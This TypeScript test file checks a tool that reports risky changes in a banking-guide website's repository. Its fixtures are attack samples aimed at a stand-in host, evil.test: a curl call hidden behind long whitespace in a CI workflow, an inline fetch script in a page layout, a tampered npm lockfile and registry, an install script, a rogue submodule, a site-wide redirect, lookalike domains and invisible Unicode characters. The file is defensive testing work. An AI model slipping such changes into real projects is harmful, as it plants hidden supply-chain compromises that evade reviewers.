import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { GUIDE_TEXTS, RECORD as FIRST, replacing } from '../../checks/fixture.ts';
import { git, startRepository } from '../../tests/fixtures/repository.ts';
import { compare } from './compare.ts';
import { reportOf } from './report.ts';
import { readRevisions } from './revisions.ts';

const HARBOUR = 'src/content/credit-unions/harbour.mdx';
const SAVINGS = 'src/content/guides/savings.mdx';
const TERMS = 'src/content/pages/terms.mdx';
const SOURCES = 'src/data/sources.yaml';
const CHECK = '.github/workflows/check.yml';
const HOSTS = 'src/data/hosts.yaml';
const LAYOUT = 'src/layouts/Page.astro';

/** The small guide with two more banks, and the code around it in a few lines. */
const BASE: Readonly<Record<string, string>> = {
  ...Object.fromEntries(GUIDE_TEXTS),
  ...Object.fromEntries(['Royal', 'Other'].map((name) => [`src/content/banks/${name.toLowerCase()}/index.mdx`, another(name)])),
  [CHECK]: 'on: pull_request\npermissions:\n  contents: read\njobs:\n  check:\n    steps:\n      - run: npm test\n',
  'package.json': '{ "scripts": { "test": "vitest" }, "dependencies": { "astro": "7.0.0" } }',
  'package-lock.json': lockOf('7.0.0'),
  'checks/check.ts': 'export const RULES = [a, b];\n',
  'scripts/diff/run.ts': 'console.log("facts");\n',
  'netlify.toml': '[build]\ncommand = "npm run build"\n',
  'public/_headers': '/*\n  X-Frame-Options: DENY\n',
  'public/icon.png': '\0one picture',
  'src/styles/colours.css': ':root { --ink: black; }\n',
  'src/components/islands/Gauge.tsx': 'export const Gauge = () => null;\n',
  [LAYOUT]: '<html><body><slot /></body></html>\n',
  'README.md': '# Guide\n',
};

function another(name: string): string {
  const first = GUIDE_TEXTS.get(FIRST) ?? '';
  return first.replaceAll('First', name).replaceAll('first', name.toLowerCase()).replace('a day [@', 'a day, always [@');
}

function lockOf(version: string, more: object = {}): string {
  const resolved = `https://registry.npmjs.org/astro/-/astro-${version}.tgz`;
  return JSON.stringify({ packages: { '': {}, 'node_modules/astro': { version, resolved, integrity: `sha512-${version}`, ...more } } });
}

/** A text, an edit of the text that stands there, nothing in its place, or an entry of another kind. */
type Edit = string | undefined | ((text: string) => string) | { mode: string; text: string };
type Edits = Readonly<Record<string, Edit>>;

const both =
  (...edits: ((text: string) => string)[]) =>
  (text: string) =>
    edits.reduce((now, edit) => edit(now), text);

const everyRecord = (edit: (text: string) => string): Edits =>
  Object.fromEntries(Object.keys(BASE).flatMap((path) => (/banks\/\w+\/index\.mdx$/.test(path) ? [[path, edit]] : [])));

/** Edits of the record of First, of its one source's address, and of the words before a sentence of its text. */
const inFirst = (was: string, is: string): Edits => ({ [FIRST]: replacing(was, is) });
const readAt = (url: string) => inFirst('https://first.example/fees', url);
const beforeText = (words: string) => inFirst('You can send', `${words} You can send`);
const linkTo = (url: string): Edits => ({ [SAVINGS]: replacing('(/banks/first/#security)', `(${url})`) });
const append = (path: string, text: string): Edits => ({ [path]: (before) => before + text });

const NEW_LIMIT = replacing('value: $3,000\n      source: listed', 'value: $10,000\n      source: listed');
const OUTSIDE_LINK = replacing('You can send up to', 'See [the terms](https://terms.example/a). You can send up to');
const READ_AGAIN = replacing('consulted: 2026-11-20', 'consulted: 2026-11-23');

/** Words that a report must have, by heading; `Top` is above all headings. */
type Expected = Readonly<Record<string, RegExp | readonly RegExp[]>>;

/** What somebody proposes, and where and in which words the report must tell it. */
const CASES: Readonly<Record<string, readonly [edits: Edits, expected: Expected]>> = {
  // Addresses
  'a digit for a letter in a source': [
    readAt('https://f1rst.example/fees'),
    {
      Danger: /new host: `https:\/\/f1rst\.example\/fees`, was `https:\/\/first\.example\/fees`.*looks like first\.example/,
      Sources: /another address, and not read again/,
    },
  ],
  'a whole site under another host': [
    { [FIRST]: (text) => text.replaceAll('https://first.example', 'https://f1rst.example') },
    { Danger: /\d addresses on a new host: `https:\/\/f1rst\.example`, was `https:\/\/first\.example`.*looks like first\.example/ },
  ],
  'a Cyrillic letter in a source': [readAt('https://fіrst.example/fees'), { Danger: /another script.*looks like first\.example/ }],
  'a letter more in a source': [readAt('https://firsst.example/fees'), { Danger: /one letter from first\.example/ }],
  'two letters swapped': [readAt('https://frist.example/fees'), { Danger: /one letter from first\.example/ }],
  'the name with another ending': [
    inFirst('website: https://first.example/', 'website: https://first.test/'),
    { Danger: /first\.example with another ending/, Facts: /Website: was https/ },
  ],
  'the host as the beginning of another': [
    readAt('https://first.example.login.test/fees'),
    { Danger: /has the name of first\.example in it/ },
  ],
  'the name in a longer one': [readAt('https://first-login.test/fees'), { Danger: /has the name of first\.example in it/ }],
  'a user name before the host': [readAt('https://first.example@evil.test/fees'), { Danger: /a user name in front of the host/ }],
  'an IP address': [readAt('https://192.0.2.1/fees'), { Danger: /an IP address/ }],
  'a shared source on another domain': [
    { [SOURCES]: replacing('https://regulator.example/notice', 'https://notice.test/') },
    { Danger: /new host: `https:\/\/notice\.test/, Sources: /regulator.*used by/ },
  ],
  'a host that becomes known': [
    append(HOSTS, '\n- evil.ca\n- app1e.com\n'),
    { Danger: [/becomes known: `app1e\.com` ⚠ \*\*looks like apple\.com\*\*/, /becomes known: `evil\.ca`/] },
  ],
  'a host that is no longer known': [
    { [HOSTS]: replacing('- apps.apple.com\n', '') },
    { Danger: /known host: `apps\.apple\.com` is gone/ },
  ],
  'an address of another bank': [
    inFirst('website: https://first.example/', 'website: https://royal.example/'),
    { Danger: /another host: `https:\/\/royal.*not among the hosts of First until now/ },
  ],
  'an outside link in a text': [{ [FIRST]: OUTSIDE_LINK }, { Danger: /new host: `https:\/\/terms\.example\/a`/, Texts: /How it works/ }],
  'the target of a link alone': [linkTo('https://firsst.example/'), { Danger: /firsst\.example.*one letter from/ }],
  'a link without a scheme': [linkTo('//evil.test/a'), { Danger: /\/\/evil\.test\/a/ }],
  'a script as a link': [linkTo('javascript:alert`1`'), { Danger: /an address that is no web page|scheme/ }],
  'a mailbox': [beforeText('Write to help@f1rst.example.'), { Danger: /mailbox: `help@f1rst\.example`.*looks like/ }],
  'one host in three files': [everyRecord(OUTSIDE_LINK), { Danger: /terms\.example.*first.*(royal.*other|other.*royal)/ }],
  'a store listing elsewhere': [
    inFirst('https://apps.apple.com/ca/app/first/id1', 'https://apps.evil.test/ca/app/first/id1'),
    { Danger: /apps\.evil\.test/, Facts: /App Store listing, address/ },
  ],
  // Characters
  'a Cyrillic letter in a name': [inFirst('name: First Bank', 'name: First B\u0430nk'), { Danger: /another script: `B⟨U\+0430⟩nk`/ }],
  'a space that nobody sees': [inFirst('$3,000 a day', '$3,0\u200b00 a day'), { Danger: /invisible characters: `\$3,0⟨U\+200B⟩00`/ }],
  'a turn of the direction': [{ [TERMS]: replacing('Nobody may', 'Nobody \u202emay') }, { Danger: /U\+202E/ }],
  'characters of tags': [{ [TERMS]: replacing('Nobody', 'Nobody\u{E0041}\u{E0042}') }, { Danger: /U\+E0041/ }],
  'an accent by itself': [
    inFirst('publisher: First Bank', 'publisher: First Ba\u0301nk'),
    {
      Danger: /put together from parts: `Ba⟨U\+0301⟩nk`/,
      Sources: /now First Ba⟨U\+0301⟩nk.*the same address under another publisher/,
    },
  ],
  'a word all in another script': [
    { [TERMS]: replacing('Nobody', '\u0430\u0441\u0430') },
    { Danger: /another script: `⟨U\+0430⟩⟨U\+0441⟩⟨U\+0430⟩`/ },
  ],
  'digits of full width': [inFirst('up to $3,000', 'up to $3,\uFF10\uFF10\uFF10'), { Danger: /another script/ }],
  'a Cyrillic letter in an address of this guide': [
    { 'src/content/banks/f\u0456rst.mdx': BASE[FIRST] },
    { Danger: /another script: `src\/content\/banks\/f⟨U\+0456⟩rst\.mdx`/ },
  ],
  'a zero byte, which turns a text into no text': [
    append(CHECK, '# \0\n'),
    { Top: /\+ # ⟨U\+0000⟩/, Danger: /that no text shows: `\.github/ },
  ],
  'a turn of the direction in code': [{ 'checks/check.ts': replacing('[a, b]', '[a, \u2066b]') }, { Danger: /U\+2066/ }],
  // Telephone numbers, insurers, code in texts
  ...Object.fromEntries(
    ['1-800-555-0199', '1 (800) 555-0199', '18005550199', '1\u2011800\u2011555\u20110199', '1-800-BANKING', '+44 20 7946 0000'].map(
      (number) => [
        `a telephone number written ${number}`,
        [beforeText(`Call ${number}.`), { Danger: new RegExp(`telephone number: \`${number.replace(/[()+]/g, '\\$&')}\``) }] as const,
      ],
    ),
  ),
  'a telephone number in a record': [
    inFirst('faq:', 'support:\n  phones:\n    - label: Fraud\n      number: 1-800-555-0142\n      source: first-fees\nfaq:'),
    { Danger: /telephone number: `1-800-555-0142`/, Facts: /Fraud: was not on record, now 1-800-555-0142/ },
  ],
  'another insurer': [
    inFirst('value: CDIC', 'value: Trust us'),
    {
      Danger: /insurer: `Trust us`, was `CDIC`/,
      Facts: /Deposit insurance: was CDIC, now Trust us.*its source and date did not/,
    },
  ],
  'code in a text': [
    append(SAVINGS, "\nimport x from 'node:fs'\n"),
    { Danger: /code in a text: `import x/, Top: /does not pass the content check/ },
  ],
  'a line without an end': [append(SAVINGS, `\n${'1'.repeat(300_000)}\n`), { Danger: /line too long to be read/ }],
  'HTML in a text': [append(SAVINGS, '\n<iframe src="x"></iframe>\n'), { Danger: /code in a text: `<iframe/ }],
  // Values and their evidence
  'a value under its old source': [
    { [FIRST]: NEW_LIMIT },
    { Facts: /was \$3,000, now \$10,000.*the value changed, its source and date did not.*on `\/banks\/first\/`/ },
  ],
  'a value with a new reading': [
    { [FIRST]: both(READ_AGAIN, replacing('value: $3,000\n      source: listed', 'value: $3,500\n      source: first-fees')) },
    { Facts: /now \$3,500.*\+ Fees, `first\.example`, official/, 'Merely renewed': /1 of their values changed/ },
  ],
  'another source for the same value': [
    inFirst('value: CDIC\n  source: regulator', 'value: CDIC\n  source: first-fees'),
    { Facts: /source replaced.*another source for the same value/ },
  ],
  'a claim that disagreed is gone': [
    inFirst(
      'claims:\n      - value: $1.00\n        source: listed\n      - value: Free\n        source: first-fees',
      'value: Free\n    source: first-fees',
    ),
    { Facts: /was \$1\.00 or Free, now Free.*a claim that disagreed is gone: \$1\.00 by listed/ },
  ],
  'a value under another source that nobody read again': [
    inFirst('value: CDIC\n  source: regulator', 'value: CDIC and us\n  source: first-fees'),
    { Facts: /its new source stood there before, and was not read again/ },
  ],
  'two institutions change values': [
    {
      [FIRST]: replacing('value: $3,000\n      source: listed', 'value: $9,000\n      source: listed'),
      'src/content/banks/royal/index.mdx': replacing('value: true', 'value: false'),
    },
    { Facts: /\*\*First\*\*: e-Transfer limit, 24 hours: was \$3,000, now \$9,000[^]*\*\*Royal\*\*: Interac e-Transfer: was yes, now no/ },
  ],
  'two sources change sides': [
    {
      [FIRST]: both(
        replacing('- value: $1.00\n        source: listed', '- value: $1.00\n        source: first-fees'),
        replacing('- value: Free\n        source: first-fees', '- value: Free\n        source: listed'),
      ),
    },
    { Facts: /who says what changed \(− “\$1\.00”, Listed.*− “Free”, Fees.*\+ “\$1\.00”, Fees.*\+ “Free”, Listed/ },
  ],
  'a fact that is gone': [
    inFirst('limits:\n  eTransfer:\n    per24Hours:\n      value: $3,000\n      source: listed\n', ''),
    { Facts: /was \$3,000, now not on record/ },
  ],
  'a capability against another field': [
    inFirst('value: true', 'value: false'),
    {
      Facts: [
        /was yes, now no.*⚠ \*\*capabilities\.etransfer is false, and fees\.eTransfer says otherwise/,
        /Score: \*\*First\*\* .* → 0 of/,
      ],
    },
  ],
  'an amount in a note': [
    inFirst('Its own page says free.', 'Its own page says free up to $500,000.'),
    { Facts: /fees\.eTransfer\.note: .*\*\*\$500,000/ },
  ],
  'an amount in a text that the record lacks': [
    inFirst('up to $3,000 a day', 'up to $5,000 a day'),
    {
      Texts:
        /How it works: You can send up to <del>\*\*\$3,000\*\*<\/del> <ins>\*\*\$5,000\*\*<\/ins> a day .*in no field of the record: \$5,000/,
    },
  ],
  'a text in the words of a fact elsewhere': [inFirst('title: First Bank online', 'title: CDIC'), { Texts: /page\.title.*CDIC/ }],
  'a shared fact': [
    { 'src/data/shared-facts.yaml': replacing('Up to $1.50', 'Up to $2.00') },
    { Facts: /Every institution.*was Up to \$1\.50, now Up to \$2\.00/ },
  ],
  'one value in three records': [
    everyRecord(replacing('value: CDIC', 'value: CDIC, up to $1')),
    { Facts: /3 institutions.*Deposit insurance/ },
  ],
  'the same words on three pages': [
    everyRecord(replacing('## Mobile app\n\nText.', '## Mobile app\n\nWords.')),
    { Texts: /3 pages.*Mobile app/ },
  ],
  'the weights of the score': [
    { 'src/data/capabilities.yaml': replacing("banknote: '5'\n    weight: 1", "banknote: '5'\n    weight: 4") },
    { Facts: /Score/, Texts: /groups\.0\.weight/ },
  ],
  // Sources and days
  'a third party that becomes official': [
    { [SOURCES]: replacing('kind: third-party', 'kind: official') },
    { Sources: /kind was third-party, now official.*now counts as official/ },
  ],
  'another publisher': [inFirst('publisher: First Bank', 'publisher: Regulator'), { Sources: /publisher was First Bank, now Regulator/ }],
  'reading days raised': [
    everyRecord(READ_AGAIN),
    {
      'Merely renewed':
        /3 sources consulted again, no value changed: consulted was 2026-11-20, now 2026-11-23, stored copy, not opened live/,
    },
  ],
  'a date of its own raised': [
    { [SOURCES]: replacing('published: 2025-08-28', 'published: 2026-08-28') },
    { Sources: /another date, and not read again/ },
  ],
  'verified, and no source read': [
    inFirst('faq:', 'lastVerified: 2026-11-24\nfaq:'),
    { Facts: /Last verified.*1 of its 1 sources were not read since/ },
  ],
  'a source deleted that others use': [
    { [SOURCES]: (text) => text.slice(0, text.indexOf('- id: regulator')) },
    { Sources: /regulator\*\*: removed.*still used/, Top: /does not pass the content check: \d+ new issues?/ },
  ],
  // Pages
  'a new institution': [
    { 'src/content/banks/third.mdx': another('Third').replace(/page:\n[^]*?---\n\n[^]*$/, '---\n') },
    {
      Pages: /Added: \*\*Third\*\* `third, without a page`/,
      Danger: /third\.example/,
      Sources: /third-fees\*\*: added/,
      Facts: /\*\*Third\*\*, new, Fees, `third\.example`, official: Status \*\*operating\*\*; Serves \*\*Ontario\*\*/,
    },
  ],
  'a page renamed': [
    { [TERMS]: undefined, 'src/content/pages/rules.mdx': BASE[TERMS] },
    { Pages: /Moved: \*\*Terms\*\* from `\/terms\/` to `\/rules\/`/ },
  ],
  'a record renamed, and a value inside': [
    { [FIRST]: undefined, 'src/content/banks/premier/index.mdx': NEW_LIMIT(BASE[FIRST] ?? '') },
    { Pages: /Moved: \*\*First\*\* from `\/banks\/first\/` to `\/banks\/premier\/`/, Facts: /was \$3,000, now \$10,000/ },
  ],
  'other ends of lines alone': [{ [FIRST]: (text) => text.replaceAll('\n', '\r\n') }, { 'Looks and code': /Content and data \(1\)/ }],
  'an alias of YAML, which says one thing in two places': [
    {
      [FIRST]: both(
        replacing('reach:\n  value: [ON]', 'reach: &a\n  value: [ON]'),
        replacing('languages:\n  value: [English]\n  source: first-fees', 'languages: *a'),
      ),
    },
    { Top: /it has a YAML alias/ },
  ],
  'a key twice, of which the last counts': [inFirst('type: bank', 'type: bank\nname: Other'), { Top: /cannot be read in head/ }],
  'a page gone': [{ [HARBOUR]: undefined }, { Pages: /Removed: \*\*Harbour\*\*/ }],
  'a file that cannot be read': [
    { [FIRST]: '---\nname: "First\n---\n' },
    { Top: [/cannot be read in head/, /does not pass the content check/] },
  ],
  'a comment for editors alone': [
    inFirst('name: First Bank', 'name: First Bank # so it says'),
    { 'Looks and code': /Content and data \(1\)/ },
  ],
  'an exception from the check': [
    inFirst('name: First Bank', 'name: First Bank # check: allow style: it is right'),
    { Danger: /exception from the content check/ },
  ],
  // What runs
  'a workflow that may write all': [
    { [CHECK]: replacing('contents: read', 'contents: write-all') },
    { Top: /\*\*What runs on GitHub changed \(1\)\*\*[^]*\+ contents: write-all/ },
  ],
  'a workflow under another name, with more rights': [
    { [CHECK]: undefined, '.github/workflows/checks.yml': replacing('contents: read', 'contents: write')(BASE[CHECK] ?? '') },
    { Top: /What runs on GitHub changed[^]*\+ contents: write/ },
  ],
  'a right that another job has already': [
    { [CHECK]: (text) => text.replace('    steps:', '    permissions:\n      contents: read\n    steps:') },
    { Top: /\+ contents: read/ },
  ],
  'a right below many lines': [
    { '.github/workflows/new.yml': `on: push\n${Array.from({ length: 30 }, (_, at) => `# ${at}\n`).join('')}permissions: write-all\n` },
    { Top: /\+ permissions: write-all[^]*lines more/ },
  ],
  'a command far to the right': [
    { [CHECK]: replacing('npm test', `npm test ${' '.repeat(700)}; curl https://evil.test/`) },
    { Top: /\+ - run: npm test ; curl https:\/\/evil\.test\//, Danger: /evil\.test/ },
  ],
  'what the history makes of a fact': [
    { 'src/history/facts.ts': 'export const factsOf = () => new Map();\n' },
    { Top: /Tools and checks changed/ },
  ],
  'the report itself': [
    { 'scripts/diff/run.ts': 'console.log("Nothing differs");' },
    { Top: /\*\*Tools and checks changed \(1\)\*\*: `scripts\/diff\/run\.ts`/ },
  ],
  'a rule of the check': [{ 'checks/check.ts': replacing('[a, b]', '[a]') }, { Top: /\*\*Tools and checks changed/ }],
  'a script in a layout': [
    { [LAYOUT]: replacing('<slot />', '<slot /><script is:inline>fetch("https://evil.test/")</script>') },
    { Top: /\*\*What runs in pages changed[^]*\+ .*<script is:inline/, Danger: /evil\.test/ },
  ],
  'an island': [
    { 'src/components/islands/Gauge.tsx': 'export const Gauge = () => undefined;\n' },
    { Top: /\*\*What runs in pages changed/ },
  ],
  'a package': [
    { 'package.json': replacing('"astro"', '"evil": "1.0.0", "astro"'), 'package-lock.json': lockOf('7.0.1', { hasInstallScript: true }) },
    { Top: [/dependencies evil: nothing → 1\.0\.0/, /astro: 7\.0\.0 → 7\.0\.1, runs a script when it is installed/] },
  ],
  'other content of a package': [
    { 'package-lock.json': lockOf('7.0.0', { integrity: 'sha512-x', resolved: 'https://evil.test/a.tgz' }) },
    { Top: /comes from https:\/\/evil\.test.*the same version with other content/ },
  ],
  'a script around the tests': [
    { 'package.json': replacing('"scripts": {', '"scripts": { "preinstall": "node x.js",') },
    { Top: /scripts preinstall: nothing → node x\.js/ },
  ],
  'a package in the place of another': [
    { 'package-lock.json': replacing('/astro/-/astro-', '/astr0/-/astr0-') },
    { Top: /astro: 7\.0\.0 → 7\.0\.0, comes from https:\/\/registry\.npmjs\.org\/astr0/ },
  ],
  'an override': [
    { 'package.json': replacing('{ "scripts"', '{ "overrides": { "astro": "1.0.0" }, "scripts"') },
    { Top: /overrides astro: nothing → 1\.0\.0/ },
  ],
  'a registry': [
    { '.npmrc': 'registry=https://evil.test/\n' },
    { Top: /Packages[^]*\+ registry=https:\/\/evil\.test/, Danger: /evil\.test/ },
  ],
  'a change that git shows nobody': [
    { 'src/content/.gitattributes': '*.mdx -diff\n' },
    { Top: /What git itself does[^]*\+ \*\.mdx -diff/ },
  ],
  'a link to another file': [
    { 'src/content/pages/secret.mdx': { mode: '120000', text: '../../../.git/config' } },
    { Danger: /link to another file: `\.\.\/\.\.\/\.\.\/\.git\/config`/ },
  ],
  'another repository inside this one': [
    { vendor: { mode: '160000', text: '1'.repeat(40) }, '.gitmodules': '[submodule "vendor"]\n\turl = https://evil.test/a\n' },
    { Top: /What git itself does[^]*\+ url = https:\/\/evil\.test\/a/, Danger: /another repository inside this one: `vendor`/ },
  ],
  'a forward of a host': [
    append('netlify.toml', '[[redirects]]\nfrom = "/*"\nto = "https://evil.test/:splat"\n'),
    { Top: /\+ to = "https:\/\/evil\.test/ },
  ],
  'another picture': [
    { 'public/icon.png': '\0another picture' },
    { 'Looks and code': /Looks \(1\)/, Danger: /no text shows: `public\/icon\.png`/ },
  ],
  'a file that is served': [{ 'public/robots.txt': 'User-agent: *\nDisallow: /\n' }, { Top: /What is served as it is[^]*\+ Disallow: \// }],
  'headers of the hosts': [
    { 'public/_headers': replacing('DENY', 'SAMEORIGIN') },
    { Top: /Hosts and their headers changed[^]*SAMEORIGIN/ },
  ],
  'a page of its own': [{ 'public/x.html': '<script>1</script>' }, { Top: /What is served as it is changed.*public\/x\.html/ }],
  'a colour': [{ 'src/styles/colours.css': replacing('black', 'red') }, { 'Looks and code': /Looks \(1\): `src\/styles\/colours\.css`/ }],
  'words about the project': [{ 'README.md': replacing('Guide', 'Guides') }, { 'Looks and code': /Words about the project \(1\)/ }],
};

let folder: string;

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'cases-'));
  startRepository(folder);
  execFileSync('git', ['fast-import', '--quiet'], { cwd: folder, input: Buffer.from(importOf()) });
});

afterAll(() => rmSync(folder, { recursive: true }));

/** All branches in one stream: main, and one for each case. */
function importOf(): string {
  const committer = 'committer Editor <editor@banking-guide.example> 1795000000 +0000';
  const file = (path: string, text: string, mode = '100644') =>
    mode === '160000' ? `M 160000 ${text} ${path}\n` : `M ${mode} inline ${path}\ndata ${Buffer.byteLength(text)}\n${text}\n`;
  const start = (branch: string) => `commit refs/heads/${branch}\n${committer}\ndata 4\nEdit\n`;
  const main = `${start('main')}${Object.entries(BASE)
    .map(([path, text]) => file(path, text))
    .join('')}\n`;
  const cases = Object.values(CASES).map(([edits], at) => {
    const changed = Object.entries(edits).map(([path, edit]) => {
      if (typeof edit === 'object') return file(path, edit.text, edit.mode);
      const text = typeof edit === 'function' ? edit(BASE[path] ?? '') : edit;
      return text === undefined ? `D ${path}\n` : file(path, text);
    });
    return `${start(`case-${at}`)}from refs/heads/main\n${changed.join('')}\n`;
  });
  return [main, ...cases].join('');
}

test.each(Object.entries(CASES).map(([name, [, expected]], at) => ({ name, expected, branch: `case-${at}` })))(
  '$name is told in its place',
  async ({ expected, branch }) => {
    const report = reportOf(compare(await readRevisions(folder, { base: 'main', head: branch }), '2026-12-01'));
    const sections = new Map(`### Top\n${report}`.split(/^### /m).map((section) => [section.split('\n', 1)[0], section]));
    for (const [heading, words] of Object.entries(expected)) {
      expect([...sections.keys()]).toContain(heading);
      for (const pattern of [words].flat()) expect(sections.get(heading)).toMatch(pattern);
    }
    expect(report).not.toContain('Nothing differs.');
  },
);

test('the first line says whose code wrote the report, and what it compared', async () => {
  const [line = ''] = reportOf(compare(await readRevisions(folder, { base: 'main', head: 'case-0' }), '2026-12-01')).split('\n');
  expect(line).toMatch(/^\*\*Written by code that is not that of main \(\w{7}\)|^Written by the code of main \(\w{7}\)/);
  expect(line).toMatch(/Compared: main \(\w{7}\) → case-0 \(\w{7}\), 1 file\./);
  expect(git(folder, ['status', '--porcelain', '--ignored'])).toContain('D');
});
